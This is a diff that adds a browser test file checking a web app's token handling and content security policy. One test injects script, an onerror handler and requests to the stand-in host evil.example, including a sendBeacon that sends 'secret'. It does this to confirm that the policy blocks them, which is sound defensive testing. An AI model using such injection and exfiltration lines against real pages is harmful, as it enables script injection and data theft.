@@ -1,0 +1,48 @@
+import { expect, test } from '../support/test.ts'
+
+test('the token leaves the address and outlives a reload, and the page stays connected (REL-S8)', async ({
+  openDesk,
+  host,
+}) => {
+  const page = await openDesk()
+  await expect.poll(() => page.url()).toBe(`${host.origin}/`)
+  const asked = page.waitForResponse(`${host.origin}/rpc`)
+  await page.reload()
+  expect((await asked).status()).toBe(200)
+})
+
+test('script that got into the page can run nothing of its own and reach no other place (REL-H4)', async ({
+  browser,
+  host,
+}) => {
+  // Not the test's own page: the violations are what is asked for here.
+  const page = await browser.newPage()
+  const reached: string[] = []
+  await page.route('https://evil.example/**', (route) => {
+    reached.push(route.request().url())
+    return route.fulfill({ body: '' })
+  })
+  await page.goto(host.address)
+  await page.evaluate(async () => {
+    const inline = document.createElement('script')
+    inline.textContent = 'window.ran = "inline"'
+    document.body.append(inline)
+    document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.ran = \'onerror\'">')
+    document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/frame"></iframe>')
+    new Image().src = 'https://evil.example/image'
+    navigator.sendBeacon('https://evil.example/beacon', 'secret')
+    await fetch('https://evil.example/fetch').catch(() => undefined)
+    await new Promise((resolve) => setTimeout(resolve, 500))
+  })
+  expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined()
+  expect(reached).toEqual([])
+  await page.close()
+})
+
+test('each page opens without a violation of its policy (REL-H4)', async ({ page, openDesk, api }) => {
+  await openDesk()
+  await expect(page.locator('#root')).not.toBeEmpty()
+  const { address } = await api.host.openClientBooking.call({})
+  await page.goto(String(address))
+  await expect(page).toHaveTitle(/./)
+})
